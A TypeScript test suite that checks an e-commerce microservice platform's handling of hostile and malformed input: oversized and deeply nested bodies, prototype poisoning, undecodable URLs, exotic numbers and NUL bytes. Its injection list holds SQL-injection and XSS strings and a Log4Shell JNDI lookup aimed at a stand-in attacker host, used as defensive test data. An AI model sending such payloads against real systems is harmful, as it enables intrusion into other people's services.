import { randomUUID } from "node:crypto";
import { callHttp, type HttpAnswer } from "@blossom/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADDRESS, type Order, type Product, ShopClient } from "../support/shop-client.js";
import { type PreparedTopology, prepareTopology, TOPOLOGIES } from "../support/topologies.js";
import {
  ADMIN_PASSWORD,
  callAs,
  type Door,
  type SecurityPlatform,
  signUpCustomer,
  startSecurityPlatform,
} from "./security-platform.js";

/**
 * OWASP API8-style input handling, through the gateway and straight at each service: oversized,
 * malformed, mistyped, deeply nested and poisoned bodies, too-long and undecodable URLs, and
 * text the database cannot store are 4xx problem+json, never 500; unknown fields are stripped;
 * injection strings are stored and returned verbatim, and the tables keep working.
 */
const INJECTIONS = [
  "Robert'); DROP TABLE users;--",
  "' OR '1'='1' --",
  '"; DELETE FROM products; --',
  "<script>alert('xss')</script>",
  "<img src=x onerror=alert(1)>",
  "🌸 Ünïcødé 名前 عربى \u202ereversed",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell and template probe, meant literally
  "${jndi:ldap://evil.example/a} {{7*7}}",
  "%00%27 \\x00 \\u0000 %s%n",
  'back\\slash "quoted" `tick`',
];
const NUL = "Ann\u0000Nul";

function expectProblem(answer: HttpAnswer, status: number, slug: string, what: string): void {
  expect(answer.status, `${what}: ${JSON.stringify(answer.body).slice(0, 300)}`).toBe(status);
  expect(answer.headers.get("content-type"), what).toMatch(/^application\/problem\+json/);
  expect((answer.body as { type?: string }).type, what).toBe(`https://blossom.dev/problems/${slug}`);
}

describe.each(TOPOLOGIES)("input handling ($name)", (topology) => {
  let prepared: PreparedTopology;
  let sp: SecurityPlatform;
  let ann: ShopClient;
  let admin: ShopClient;
  let card: string;
  let lamp: Product;

  beforeAll(async () => {
    prepared = await prepareTopology(topology);
    sp = await startSecurityPlatform(prepared.env);
    ann = await signUpCustomer(sp, "Ann");
    admin = new ShopClient(
      sp.gateway,
      (await ShopClient.logIn(sp.service("users"), "admin@blossom.local", ADMIN_PASSWORD)).tokens,
    );
    card = await ann.addCard();
    lamp = (await callHttp<{ items: Product[] }>(sp.gateway, "GET", "/api/inventory/products?q=lamp")).body
      .items[0] as Product;
  }, 120_000);
  afterAll(async () => {
    await sp?.destroy();
    await prepared?.destroy();
  });

  describe("bodies", () => {
    it("an oversized body is 413, at the gateway and at the service", async () => {
      const huge = JSON.stringify({ email: "a@example.com", password: "x".repeat(1_200_000), name: "A" });
      for (const door of sp.doors("users"))
        expectProblem(
          await callHttp(door.base, "POST", "/api/users", { body: huge }),
          413,
          "payload-too-large",
          door.name,
        );
    });

    it("malformed JSON is 400; XML, a form or no content type is 415; plain text is not taken for JSON", async () => {
      for (const door of sp.doors("orders")) {
        for (const malformed of ['{"items":', "{'items': []}", '{"a":1}{"b":2}', "[1,2", "\u0000"])
          expectProblem(
            await callAs(ann.tokens.accessToken, door.base, "POST", "/api/orders", malformed),
            400,
            "malformed-body",
            `${JSON.stringify(malformed)} ${door.name}`,
          );
        for (const type of ["application/xml", "application/x-www-form-urlencoded"])
          expectProblem(
            await callAs(ann.tokens.accessToken, door.base, "POST", "/api/orders", "<a/>", {
              "content-type": type,
            }),
            415,
            "unsupported-media-type",
            `${type} ${door.name}`,
          );
        const text = await callAs(ann.tokens.accessToken, door.base, "POST", "/api/orders", '{"items":[]}', {
          "content-type": "text/plain",
          "idempotency-key": randomUUID(),
        });
        expectProblem(text, 400, "validation-error", `text/plain ${door.name}`);
      }
    });

    it("deeply nested JSON is 400 and huge strings are 400 — never 500 — and the service keeps serving", async () => {
      const deep = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;
      const hugeName = "🌸".repeat(200_000);
      const [gateway, users] = sp.doors("users") as [Door, Door];
      const patch = (door: Door, body: string) =>
        callAs(ann.tokens.accessToken, door.base, "PATCH", "/api/users/me", body);
      for (const door of [gateway, users]) {
        expectProblem(
          await patch(door, `{"name":${deep}}`),
          400,
          door === gateway ? "malformed-body" : "validation-error",
          door.name,
        );
        expectProblem(
          await patch(door, JSON.stringify({ name: hugeName })),
          400,
          "validation-error",
          door.name,
        );
      }
      // Nested in an unknown field: the gateway refuses to re-encode it; the service strips it.
      const unknown = `{"name":"Ann","extra":${deep}}`;
      expectProblem(await patch(gateway, unknown), 400, "malformed-body", gateway.name);
      expect((await patch(users, unknown)).body).toMatchObject({ name: "Ann" });
      expect((await ann.send<{ name: string }>("GET", "/api/users/me")).body.name).toBe("Ann");
    });

    it("a __proto__ member is refused with 400; unknown fields are stripped, not stored", async () => {
      for (const door of sp.doors("users")) {
        const poisoned = `{"email":"p-${randomUUID()}@example.com","password":"correct horse battery","name":"P","__proto__":{"role":"admin"}}`;
        expectProblem(
          await callHttp(door.base, "POST", "/api/users", { body: poisoned }),
          400,
          "malformed-body",
          door.name,
        );
      }
      for (const door of sp.doors("notifications")) {
        const saved = await callAs(
          ann.tokens.accessToken,
          door.base,
          "PUT",
          "/api/notifications/preferences",
          {
            email: true,
            sms: false,
            push: true,
            userId: "someone-else",
            fax: true,
          },
        );
        expect(saved.status, door.name).toBe(200);
        expect(saved.body).toEqual({ email: true, sms: false, push: true });
        const read = await callAs(ann.tokens.accessToken, door.base, "GET", "/api/notifications/preferences");
        expect(read.body).toEqual({ email: true, sms: false, push: true });
      }
    });
  });

  describe("URLs", () => {
    it("a 5,000-character path parameter is 414 problem+json, on every service, at both doors", async () => {
      const long = "x".repeat(5000);
      const routes = [
        { service: "inventory", path: `/api/inventory/products/${long}` },
        { service: "orders", path: `/api/orders/${long}` },
        { service: "orders", path: `/api/orders/${long}/cancel`, method: "POST" },
      ] as const;
      for (const route of routes) {
        for (const door of sp.doors(route.service)) {
          const answer = await callAs(
            ann.tokens.accessToken,
            door.base,
            "method" in route ? route.method : "GET",
            route.path,
          );
          expectProblem(answer, 414, "uri-too-long", `${route.path.slice(0, 30)}… ${door.name}`);
          expect(answer.headers.get("x-request-id")).toEqual(expect.any(String));
        }
      }
    });

    it("a URL whose percent-encoding does not decode is 400 problem+json", async () => {
      for (const door of sp.doors("inventory"))
        expectProblem(
          await callHttp(door.base, "GET", "/api/inventory/products/%E0%A4%A"),
          400,
          "malformed-url",
          door.name,
        );
    });
  });

  describe("numbers", () => {
    it("the reported finding: ?limit=Infinity six times is 400 each (not 500, no breaker opened), and the catalog still reads", async () => {
      for (let attempt = 1; attempt <= 6; attempt++)
        expectProblem(
          await callHttp(sp.gateway, "GET", "/api/inventory/products?limit=Infinity"),
          400,
          "validation-error",
          `attempt ${attempt}`,
        );
      const catalog = await callHttp<{ items: Product[] }>(sp.gateway, "GET", "/api/inventory/products");
      expect(catalog.status).toBe(200);
      expect(catalog.body.items.length).toBeGreaterThan(0);
    });

    it("a number that is not plain decimal is 400 in every paged list, at both doors; an anonymous caller is told 401 first", async () => {
      const lists = [
        { service: "inventory", path: "/api/inventory/products" },
        { service: "orders", path: "/api/orders" },
        { service: "payments", path: "/api/payments/methods" },
        { service: "notifications", path: "/api/notifications" },
      ] as const;
      const malformed = ["Infinity", "-Infinity", "1e309", "NaN", "1e2", "0x10", "%2B5", "%205", "-0", "1.5"];
      for (const list of lists) {
        for (const door of sp.doors(list.service)) {
          for (const limit of malformed)
            expectProblem(
              await callAs(ann.tokens.accessToken, door.base, "GET", `${list.path}?limit=${limit}`),
              400,
              "validation-error",
              `${list.path}?limit=${limit} ${door.name}`,
            );
          expectProblem(
            await callAs(ann.tokens.accessToken, door.base, "GET", `${list.path}?limit=1&limit=2`),
            400,
            "validation-error",
            `${list.path} with limit twice ${door.name}`,
          );
          const plain = await callAs(ann.tokens.accessToken, door.base, "GET", `${list.path}?limit=2`);
          expect(plain.status, `${list.path}?limit=2 ${door.name}`).toBe(200);
        }
      }
      // `config: { auth: "user" }`: "sign in" comes before anything about the query.
      for (const door of sp.doors("orders"))
        expectProblem(
          await callHttp(door.base, "GET", "/api/orders?limit=Infinity"),
          401,
          "unauthorized",
          door.name,
        );
    });

    it("a body number given as an exotic string, or out of the schema's bounds, is 400, not 500", async () => {
      const product = {
        sku: `NUM-${Date.now()}`,
        name: "Numbers",
        category: "test",
        price: { amount: 100, currency: "USD" },
        stock: 1,
      };
      const cases = [
        { stock: "Infinity" },
        { stock: "1e309" },
        { stock: "0x10" },
        { price: { amount: "Infinity", currency: "USD" } },
        // Over PostgreSQL's `integer`, which used to fail the insert.
        { price: { amount: 2 ** 31, currency: "USD" } },
        { price: { amount: 2 ** 53 + 2, currency: "USD" } },
      ];
      for (const door of sp.doors("inventory"))
        for (const change of cases)
          expectProblem(
            await callAs(admin.tokens.accessToken, door.base, "POST", "/api/inventory/products", {
              ...product,
              ...change,
            }),
            400,
            "validation-error",
            `${JSON.stringify(change)} ${door.name}`,
          );
      const huge = `{"cardNumber":"4242424242424242","expMonth":12,"expYear":1e309,"cvc":"123"}`;
      for (const door of sp.doors("payments"))
        expectProblem(
          await callAs(ann.tokens.accessToken, door.base, "POST", "/api/payments/methods", huge, {
            "content-type": "application/json",
          }),
          400,
          "validation-error",
          door.name,
        );
    });
  });

  describe("injection", () => {
    it("a NUL character, which the database cannot store, is 400 wherever it goes, not 500", async () => {
      const nulInPath = encodeURIComponent(NUL);
      const cases = [
        {
          service: "users",
          method: "POST",
          path: "/api/users",
          body: { email: `n-${randomUUID()}@example.com`, password: "correct horse battery", name: NUL },
        },
        { service: "users", method: "PATCH", path: "/api/users/me", body: { name: NUL } },
        {
          service: "users",
          method: "POST",
          path: "/api/auth/login",
          body: { email: "a@example.com", password: NUL },
        },
        { service: "inventory", method: "GET", path: `/api/inventory/products?q=${nulInPath}` },
        { service: "inventory", method: "GET", path: `/api/inventory/products/${nulInPath}` },
        { service: "orders", method: "GET", path: `/api/orders/${nulInPath}` },
        {
          service: "orders",
          method: "POST",
          path: "/api/orders",
          body: {
            items: [{ productId: lamp.id, quantity: 1 }],
            paymentMethodId: card,
            shippingAddress: { ...ADDRESS, line1: NUL },
          },
        },
        { service: "payments", method: "GET", path: `/api/payments?orderId=${nulInPath}` },
      ] as const;
      for (const item of cases) {
        for (const door of sp.doors(item.service)) {
          const answer = await callAs(
            ann.tokens.accessToken,
            door.base,
            item.method,
            item.path,
            "body" in item ? item.body : undefined,
            { "idempotency-key": randomUUID() },
          );
          const what = `${item.method} ${item.path} ${door.name}`;
          // A login with an unstorable password is just a wrong one; everything else is invalid input.
          if (item.path === "/api/auth/login") expectProblem(answer, 401, "invalid-credentials", what);
          // In a path, the gateway refuses an encoded control character before anything else.
          else if (item.path.includes(`/${nulInPath}`) && door.base === sp.gateway)
            expectProblem(answer, 400, "malformed-url", what);
          else expectProblem(answer, 400, "validation-error", what);
        }
      }
      // Nothing was half-written: the account and the catalog answer as before.
      expect((await ann.send<{ name: string }>("GET", "/api/users/me")).body.name).toBe("Ann");
    });

    it("injection strings in names are stored and returned verbatim", async () => {
      const emails: string[] = [];
      for (const [index, text] of INJECTIONS.entries()) {
        const door = sp.doors("users")[index % 2] as Door;
        const email = `o'brien+${index}-${randomUUID()}@example.com`;
        const created = await callHttp(door.base, "POST", "/api/users", {
          body: {
            email,
            password: "correct horse battery",
            name: text,
          },
        });
        expect(created.status, `${JSON.stringify(text)} ${door.name}`).toBe(201);
        emails.push(email);
        // Renamed to it and read back from the database, at both doors.
        for (const reader of sp.doors("users")) {
          const renamed = await callAs<{ name: string }>(
            ann.tokens.accessToken,
            door.base,
            "PATCH",
            "/api/users/me",
            { name: text },
          );
          expect(renamed.body.name).toBe(text);
          const me = await callAs<{ name: string }>(
            ann.tokens.accessToken,
            reader.base,
            "GET",
            "/api/users/me",
          );
          expect(me.body.name, `${JSON.stringify(text)} ${reader.name}`).toBe(text);
        }
      }
      // The accounts signed up under those names (and the quoted email) log in and read them back.
      for (const index of [0, 3]) {
        const customer = await ShopClient.logIn(sp.gateway, emails[index] as string, "correct horse battery");
        expect((await customer.send<{ name: string }>("GET", "/api/users/me")).body.name).toBe(
          INJECTIONS[index],
        );
      }
      await ann.send("PATCH", "/api/users/me", { name: "Ann" });
    });

    it("injection strings in a product are stored verbatim, found by search as plain text (LIKE wildcards too)", async () => {
      const created: Product[] = [];
      for (const [index, text] of INJECTIONS.entries()) {
        const door = sp.doors("inventory")[index % 2] as Door;
        const product = await callAs<Product & { description: string }>(
          admin.tokens.accessToken,
          door.base,
          "POST",
          "/api/inventory/products",
          {
            sku: `INJ-${index}-${Date.now()}`,
            name: text,
            description: `about ${text}`,
            category: text.slice(0, 64),
            price: { amount: 100, currency: "USD" },
            stock: 5,
          },
        );
        expect(product.status, `${JSON.stringify(text)} ${door.name}`).toBe(201);
        expect(product.body).toMatchObject({
          name: text,
          description: `about ${text}`,
          category: text.slice(0, 64),
        });
        const read = await callHttp<Product>(door.base, "GET", `/api/inventory/products/${product.body.id}`);
        expect(read.body.name).toBe(text);
        created.push(product.body);
      }
      for (const door of sp.doors("inventory")) {
        const found = await callHttp<{ items: Product[] }>(
          door.base,
          "GET",
          `/api/inventory/products?limit=100&q=${encodeURIComponent("DROP TABLE users;--")}`,
        );
        expect(found.body.items.map((item) => item.name)).toEqual([INJECTIONS[0]]);
        // `%` is a character to look for, not "anything": only names and descriptions holding one.
        const percent = await callHttp<{ items: Product[] }>(
          door.base,
          "GET",
          "/api/inventory/products?limit=100&q=%25",
        );
        expect(percent.body.items.map((item) => item.name)).toEqual([INJECTIONS[7]]);
        const byCategory = await callHttp<{ items: Product[] }>(
          door.base,
          "GET",
          `/api/inventory/products?category=${encodeURIComponent(INJECTIONS[1] as string)}`,
        );
        expect(byCategory.body.items.map((item) => item.name)).toEqual([INJECTIONS[1]]);
      }
      expect(created).toHaveLength(INJECTIONS.length);
    });

    it("injection strings in a shipping address are taken, and the order, the saga and the tables keep working", async () => {
      for (const [index, door] of sp.doors("orders").entries()) {
        const placed = await callAs<Order>(
          ann.tokens.accessToken,
          door.base,
          "POST",
          "/api/orders",
          {
            items: [{ productId: lamp.id, quantity: 1 }],
            paymentMethodId: card,
            shippingAddress: {
              name: INJECTIONS[index] as string,
              line1: INJECTIONS[3] as string,
              city: INJECTIONS[5] as string,
              postalCode: "'; --",
              country: "US",
            },
          },
          { "idempotency-key": randomUUID() },
        );
        expect(placed.status, door.name).toBe(202);
        expect((await ann.settled(placed.body.id)).status).toBe("confirmed");
      }
      // The tables are all still there and answering.
      const fresh = await ShopClient.signUp(sp.gateway, "Fresh");
      expect((await fresh.send("GET", "/api/users/me")).status).toBe(200);
      expect(
        (await ann.send<{ items: Order[] }>("GET", "/api/orders")).body.items.length,
      ).toBeGreaterThanOrEqual(2);
      expect(
        (await callHttp<{ items: Product[] }>(sp.gateway, "GET", "/api/inventory/products")).body.items
          .length,
      ).toBeGreaterThan(0);
    });
  });
});
